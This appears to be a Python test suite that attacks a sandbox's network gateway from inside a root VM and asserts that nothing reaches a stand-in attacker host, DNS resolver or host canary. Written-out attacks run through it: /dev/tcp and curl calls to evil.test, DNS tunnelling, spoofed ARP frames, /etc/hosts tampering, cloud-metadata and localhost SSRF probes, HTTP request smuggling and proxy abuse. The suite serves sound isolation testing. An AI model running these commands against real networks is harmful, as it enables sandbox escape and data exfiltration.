"""Attacks on the network out of a sandbox whose user is root: each runs inside a VM, and nothing of what it wants may be reached. The
oracle is the other side: what the attacker's server, the resolver's authority and a canary on the host have seen. Every class of
tools first reaches an allowed server, so that a test of a broken tool fails."""

import socket
import threading
import unittest

from egress_case import EgressTest

BUDGET_S = 420


class Canary(threading.Thread):
    """A listener on the host that nobody in a sandbox may reach."""

    def __init__(self, address="127.0.0.1"):
        super().__init__(daemon=True)
        self.listener = socket.create_server((address, 0))
        self.port, self.hits = self.listener.getsockname()[1], 0
        self.start()

    def run(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.hits += 1
            connection.close()


class Attacks(EgressTest):
    @classmethod
    def zone(cls):
        zone, evil = cls.net.zone, cls.net.evil
        zone["c1.wild.test"] = ["cname:evil.test"]
        zone["c2.wild.test"] = ["cname:localhost"]
        special = ["0.0.0.0", "10.0.0.1", "100.64.0.1", "127.0.0.1", "169.254.169.254", "172.16.0.1", "192.0.0.1", "192.168.0.1", "198.18.0.5", "224.0.0.1", "240.0.0.1",
                   "255.255.255.255", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "fe80::1", "fc00::1", "2001:db8::1"]
        cls.special = special
        for number, address in enumerate(special):
            zone[f"r{number}.wild.test"] = address
        zone["stale.wild.test"] = evil

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.canary = Canary()
        cls.wide_canary = Canary("0.0.0.0")

    def setUp(self):
        self.mark = self.net.mark()
        self.hits = self.canary.hits + self.wide_canary.hits

    def nothing_reached(self, allowed_names=(), out=""):
        """The oracle of every attack."""
        self.assertEqual(self.net.since(self.mark, "evil"), [], "the attacker's server was reached")
        asked = {e.get("name") for e in self.net.since(self.mark, "dns")}
        wrong = {name for name in asked if name and not (name in ("allowed.test", "cdn-ok.test", "api.secret.test", "proxy.test") or (name.endswith(".wild.test")) or name in allowed_names)}
        self.assertEqual(wrong, set(), "a name outside of the policy was resolved")
        self.assertEqual(self.canary.hits + self.wide_canary.hits, self.hits, "the host was reached")
        self.assertNotIn(self.secret, out)
        self.assertTrue(self.server.answers())

    def attack(self, command, timeout=120, **options):
        code, out, err = self.run_in(command, timeout=timeout, user="root", cwd="/home/user", **options)
        self.nothing_reached(out=out + err)
        return code, out, err

    def hx(self, request, host, port=80, sni=None):
        """One raw request from inside; the answer."""
        words = f"{host} {port}" + (f" '{sni}'" if sni is not None else "")
        return self.attack(f"python3 hx.py {words} <<'RAW'\n{request}\nRAW")[1]

    def status(self, answer):
        return answer.split(" ", 2)[1] if answer.startswith("HTTP/1.") else "closed"

    # ---- controls: the same tools reach what is allowed ----

    def test_controls(self):
        self.assertEqual(self.status(self.hx(r"GET /c HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", "allowed.test")), "200")
        self.assertEqual(self.status(self.hx(r"GET /c HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", "allowed.test", 443, "allowed.test")), "200")
        self.assertIn("rcode 0 answers 1", self.attack("python3 dnsx.py 10.0.0.1 1 allowed test; python3 dnsx.py 10.0.0.1 1 allowed test --tcp")[1])
        self.assertEqual(self.attack("echo hello | nc -w 3 allowed.test 5432")[1], "hello\n")

    # ---- A: what is not on the list ----

    def test_a01_a02_plain_tcp_to_a_public_address(self):
        code, out, err = self.attack(f"for p in 22 25 53 80 443 853 3128 8080 8443 15001 15053; do timeout 5 bash -c 'exec 3<>/dev/tcp/{self.net.evil}/'$p'; echo CANARY >&3; head -c 20 <&3'; done; "
                                     f"curl -sS -m 10 https://evil.test/; curl -sS -m 10 http://{self.net.evil}/; echo end")
        self.assertIn("end", out)

    def test_a03_a05_a06_a07_dns_carries_nothing_out(self):
        code, out, err = self.attack("for i in $(seq 20); do python3 dnsx.py 10.0.0.1 16 $(head -c20 /dev/urandom | base32 | tr -d = | tr A-Z a-z) evil test; done; "
                                     "python3 dnsx.py 8.8.8.8 1 a evil test; python3 dnsx.py 8.8.8.8 1 a evil test --tcp; "
                                     "for t in 2 5 6 12 15 16 33 35 43 48 52 64 65 99 255 256 65280; do python3 dnsx.py 10.0.0.1 $t allowed test; done; "
                                     "curl -sS -m 10 --doh-url https://1.1.1.1/dns-query https://evil.test/; echo | timeout 10 openssl s_client -connect 1.1.1.1:853 2>&1 | tail -n 1", timeout=240)
        self.assertNotIn("rcode 0 answers 1", out)
        self.assertEqual([e for e in self.net.since(self.mark, "dns") if e.get("kind") not in (1, 28)], [])

    def test_a09_a10_a11_other_protocols(self):
        code, out, err = self.attack("python3 - <<'P'\nimport socket\n"
                                     f"evil='{self.net.evil}'\n"
                                     "for proto in (1, 2, 4, 41, 47, 50, 51, 132, 136):\n"
                                     "  try:\n    s=socket.socket(2,3,proto); s.settimeout(1); s.sendto(bytes.fromhex('0800142400000000')+b'CANARY',(evil,0)); print(proto, s.recv(100)[20:22].hex())\n"
                                     "  except Exception as e: print(proto, type(e).__name__)\n"
                                     "s=socket.socket(2,2); s.settimeout(2)\n"
                                     "try:\n  s.connect((evil,443)); s.send(b'CANARY'); print('udp', s.recv(10))\nexcept OSError as e: print('udp', e)\n"
                                     "P\n"
                                     "curl -6 -sS -m 5 'http://[2606:4700::1111]/'; ping -6 -c1 -W1 ff02::1%eth0; echo end", timeout=120)
        self.assertIn("end", out)
        self.assertNotIn("43414e415259", out)

    def test_a13_a14_a15_a22_frames_that_lie(self):
        frames = ["ffffffffffff" + "025ace000002" + "0806" + "0001080006040001" + "025ace000002" + "0a000001" + "000000000000" + "0a000001",  # ARP: the gateway's address is mine
                  "025ace000001" + "020000000009" + "0800" + "00" * 60, "025ace000001" + "025ace000002" + "8100" + "0064" + "00" * 50, "0180c200000e" + "025ace000002" + "88cc" + "00" * 40,
                  "333300000001" + "025ace000002" + "86dd" + "6000000000183aff" + "fe80" + "00" * 13 + "01" + "ff02" + "00" * 13 + "01" + "8600" + "00" * 22]
        sends = "; ".join(f"s.send(bytes.fromhex('{frame}'))" for frame in frames)
        self.attack(f"python3 -c \"import socket; s=socket.socket(17,3); s.bind(('eth0',0)); {sends}\"; ip addr add 10.9.9.9/32 dev eth0; "
                    f"curl -sS -m 4 --interface 10.9.9.9 http://allowed.test/; curl -sS -m 4 --interface 10.9.9.9 http://{self.net.evil}/; ip addr del 10.9.9.9/32 dev eth0; echo end")
        self.assertEqual(self.run_in("curl -sS -m 20 http://allowed.test/after")[1], "shared GET allowed.test /after\n")

    def test_a17_a18_the_host_and_the_gateway_offer_nothing(self):
        ports = f"22 80 443 2375 7070 8080 9090 15001 15053 49983 {self.canary.port} {self.wide_canary.port}"
        code, out, err = self.attack(f"for a in 10.0.0.1 127.0.0.1 {self.net.block}.1 172.17.0.1 192.168.0.1 169.254.169.254; do for p in {ports}; do [ $a$p = 127.0.0.149983 ] || "
                                     "{ timeout 3 curl -s -m 3 -H 'Host: localhost' http://$a:$p/metrics | head -c 300; }; done; done; echo end", timeout=240)
        self.assertIn("end", out)
        self.assertNotIn("space_", out, "no metrics, no admin interface")

    # ---- B: names ----

    def test_b02_b03_b06_b07_the_destination_is_the_gateways_own(self):
        evil = self.net.evil
        self.attack(f"curl -k -sS -m 8 --resolve allowed.test:443:{evil} https://allowed.test/; curl -sS -m 8 --connect-to allowed.test:80:{evil}:80 http://allowed.test/; "
                    f"cp /etc/hosts /tmp/h; echo '{evil} allowed.test' >> /etc/hosts; curl -k -sS -m 8 https://allowed.test/; cat /tmp/h > /etc/hosts; echo end")
        self.assertNotEqual(self.status(self.hx(r"GET / HTTP/1.1\r\nHost: cdn-bad.test\r\n\r\n", "cdn-ok.test")), "200")
        for sni, host in (("cdn-bad.test", "cdn-bad.test"), ("cdn-ok.test", "cdn-bad.test"), ("evil.test", "cdn-ok.test")):
            self.assertNotEqual(self.status(self.hx(rf"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n", "cdn-ok.test", 443, sni)), "200", (sni, host))
        self.assertEqual([e for e in self.net.since(self.mark, "shared") if e.get("host") not in ("allowed.test", "cdn-ok.test")], [])

    def test_b08_the_second_request_of_a_connection(self):
        answer = self.hx(r"GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n", "allowed.test")
        self.assertTrue(answer.startswith("HTTP/1.1 200"), answer)
        self.assertNotIn("/two", [e.get("path") for e in self.net.since(self.mark)])

    def test_b12_raw_tcp_without_a_name(self):
        code, out, err = self.attack(f"printf 'HELLO CANARY\\n' | nc -w 3 {self.net.shared} 443; printf 'HELLO CANARY\\n' | nc -w 3 {self.net.shared} 22; printf 'HELLO\\n' | nc -w 3 allowed.test 22; echo end")
        self.assertEqual([e for e in self.net.since(self.mark, "shared")], [])

    def test_b14_special_ranges_behind_an_allowed_name(self):
        loop = "; ".join(f"curl -s -m 6 -o /dev/null -w '%{{http_code}} ' http://r{n}.wild.test:80/" for n in range(len(self.special)))
        code, out, err = self.attack(loop, timeout=240)
        self.assertNotIn("200", out)
        self.assertIn(str(502)[0], out + "5")

    def test_b15_d08_a_name_that_leads_elsewhere_is_range_checked_and_logged(self):
        code, out, err = self.run_in("curl -s -m 8 -o /dev/null -w '%{http_code}' http://c2.wild.test/")
        self.assertNotIn("200", out, "localhost behind an allowed name")
        self.assertEqual(self.canary.hits + self.wide_canary.hits, self.hits)
        # Who owns an allowed zone decides where its names lead: that is what a wildcard trusts. The log shows the address.
        self.run_in("curl -s -m 8 -o /dev/null http://stale.wild.test/")
        self.assertIn(self.net.evil, {e.get("address") for e in self.log() if e.get("name") == "stale.wild.test"})

    def test_b18_b19_b20_names_that_look_alike(self):
        for url in ("http://evil-allowed.test/", "http://notallowed.test/", "http://xwild.test/", "http://allowed.test.evil.test/", "http://allowed.test@evil.test/",
                    "http://wild.test/"):
            code, out, err = self.attack(f"curl -sS -m 10 '{url}'; echo code $?")
            self.assertNotIn("code 0", out, url)

    def test_b22_b23_b24_b28_b30_hosts_that_mean_two_things(self):
        for host in (r"evil.test\x00.allowed.test", r"evil%2etest", r"allowed.test%00.evil.test", r"evil.test\\allowed.test", r"allowed.test,evil.test", r"allowed.test;evil.test",
                     r"allowed.test:x@evil.test", r"[allowed.test]", r"allowed.test:443:80", r"allowed.test:0", r"allowed.test:65536", r"allowed.test:+80", r"allowed.test:7777",
                     r"allowed.test\r\nHost: evil.test", r""):
            answer = self.hx(rf"GET /odd HTTP/1.1\r\nHost: {host}\r\n\r\n", "allowed.test")
            self.assertNotEqual(self.status(answer), "200", host)
        self.assertNotIn("/odd", [e.get("path") for e in self.net.since(self.mark)])

    def test_b27_b31_b32_literals_and_aliases_of_the_host(self):
        port = self.wide_canary.port
        code, out, err = self.attack("; ".join(f"curl -s -m 4 -o /dev/null -w '%{{http_code}} ' 'http://{h}:{port}/'" for h in
                                               ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:a9fe:a9fe]", "localhost", "host.docker.internal", "gateway",
                                                "intranet", "kubernetes.default.svc")), timeout=200)
        self.assertNotIn("200", out)

    # ---- C: TLS and HTTP ----

    def test_c01_c05_c08_tls_without_a_clear_name(self):
        for sni in ("", "evil.test", self.net.evil):
            self.assertNotEqual(self.status(self.hx(r"GET /tls HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "allowed.test", 443, sni)), "200", sni)
        self.attack("for v in -tls1 -tls1_1; do echo | timeout 10 openssl s_client $v -cipher 'ALL:@SECLEVEL=0' -connect allowed.test:443 -servername allowed.test 2>&1 | grep -c 'BEGIN CERT'; done")
        self.assertNotIn("/tls", [e.get("path") for e in self.net.since(self.mark)])

    def test_c04_a_hello_in_pieces_is_decided_or_cut(self):
        code, out, err = self.attack("python3 - <<'P'\nimport socket, ssl, time\n"
                                     "i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nc = ssl.create_default_context()\nb = c.wrap_bio(i, o, server_hostname='allowed.test')\n"
                                     "try: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
                                     "hello = o.read(); s = socket.create_connection(('allowed.test', 443), 10); s.settimeout(10)\n"
                                     "for n in range(0, len(hello), 40): s.send(hello[n:n+40]); time.sleep(0.02)\nprint('answer', s.recv(5)[:1].hex())\nP")
        self.assertIn("answer 16", out, "torn into pieces it is still the same hello")

    def test_c11_c12_c13_forms_that_make_a_proxy_of_it(self):
        for host, request in (("allowed.test", r"GET http://evil.test/p HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), ("allowed.test", r"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"),
                              ("proxy.test", r"GET http://evil.test/p HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("proxy.test", r"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")):
            self.assertNotEqual(self.status(self.hx(request, host)), "200", request)
        self.assertNotIn("/p", [e.get("path") for e in self.net.since(self.mark)])

    def test_c15_c16_c17_lengths_that_disagree(self):
        smuggled = r"GET /smuggled HTTP/1.1\r\nHost: cdn-ok.test\r\n\r\n"
        for head in (r"Content-Length: 6\r\nTransfer-Encoding: chunked", r"Transfer-Encoding: xchunked", r"Transfer-Encoding: chunked, identity", r"Content-Length: 5\r\nContent-Length: 40",
                     r"Content-Length: +5", r"Content-Length: -1", r"Content-Length: 0x5", r"Content-Length: 5, 6", r"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"):
            answer = self.hx(rf"POST /framed HTTP/1.1\r\nHost: cdn-ok.test\r\n{head}\r\n\r\n0\r\n\r\n" + smuggled, "cdn-ok.test")
            self.assertNotEqual(self.status(answer), "200", head)
        answer = self.hx(r"POST /chunk HTTP/1.1\r\nHost: cdn-ok.test\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nx", "cdn-ok.test")
        self.assertNotEqual(self.status(answer), "200")
        paths = [e.get("path") for e in self.net.since(self.mark)]
        self.assertNotIn("/smuggled", paths)
        self.assertNotIn("/framed", paths)

    def test_c20_c21_upgrades(self):
        answer = self.hx(r"GET /up HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "allowed.test")
        self.assertNotEqual(self.status(answer), "101")
        answer = self.hx(r"GET /ws HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\nhello", "allowed.test")
        self.assertEqual(self.status(answer), "101", "the control: WebSocket works")
        self.assertIn("hello", answer)

    def test_c23_c33_other_grammars(self):
        for request in (r"GET /\r\n", r"TRACE / HTTP/1.1\r\nHost: api.secret.test\r\n\r\n", r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", r"SSH-2.0-x\r\n", r"EHLO x\r\n"):
            self.assertNotEqual(self.status(self.hx(request, "api.secret.test")), "200", request)
        self.attack("git clone -q git://allowed.test/x; ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no allowed.test true; timeout 5 nc allowed.test 21 </dev/null; echo end")

    def test_c29_forwarding_headers_are_the_gateways_business(self):
        self.hx(r"GET /fw HTTP/1.1\r\nHost: allowed.test\r\nX-Forwarded-Host: evil.test\r\nForwarded: host=evil.test\r\nProxy-Authorization: Basic eA==\r\nConnection: close\r\n\r\n", "allowed.test")
        arrived = [e for e in self.net.since(self.mark, "shared") if e.get("path") == "/fw"]
        self.assertEqual(len(arrived), 1)
        self.assertNotIn("Proxy-Authorization", arrived[0]["headers"])

    # ---- E: credentials ----

    def test_e02_e03_e04_e06_c27_the_secret_goes_to_its_host_alone(self):
        code, out, err = self.attack(f"curl -sS -m 20 https://api.secret.test/reflect; curl -sS -m 20 -D - -o /dev/null https://api.secret.test/reflect; curl -sS -m 20 -L 'https://api.secret.test/redir?to=https://allowed.test/after'; "
                                     f"curl -k -sS -m 8 --resolve api.secret.test:443:{self.net.evil} https://api.secret.test/v1; curl -sS -m 20 http://api.secret.test/clear", timeout=200)
        answer = self.hx(r"GET /v1/spoof HTTP/1.1\r\nHost: api.secret.test\r\n\r\n", "allowed.test", 443, "allowed.test")
        self.assertNotEqual(self.status(answer), "200")
        carried = [e for e in self.net.since(self.mark) if self.secret in str(e)]
        self.assertTrue(carried, "the control: its own host got it")
        self.assertEqual([e for e in carried if not (e["tls"] and e["host"] == "api.secret.test")], [])

    def test_a26_a_gateway_that_is_killed_leaves_no_hole(self):
        import os
        import signal
        import time
        pid = self.server.role_pid("egress")
        os.kill(pid, signal.SIGKILL)
        self.attack(f"for i in 1 2 3; do timeout 4 curl -sS -m 3 http://{self.net.evil}/; timeout 4 curl -sS -m 3 http://evil.test/; done; echo end")
        self.server.wait_for(lambda: self.api.ok("GET", f"{self.sandbox.path}/egress")["serving"], 40, "the new gateway")
        time.sleep(0.5)
        self.assertEqual(self.run_in("curl -sS -m 20 http://allowed.test/back")[1], "shared GET allowed.test /back\n")


if __name__ == "__main__":
    unittest.main()
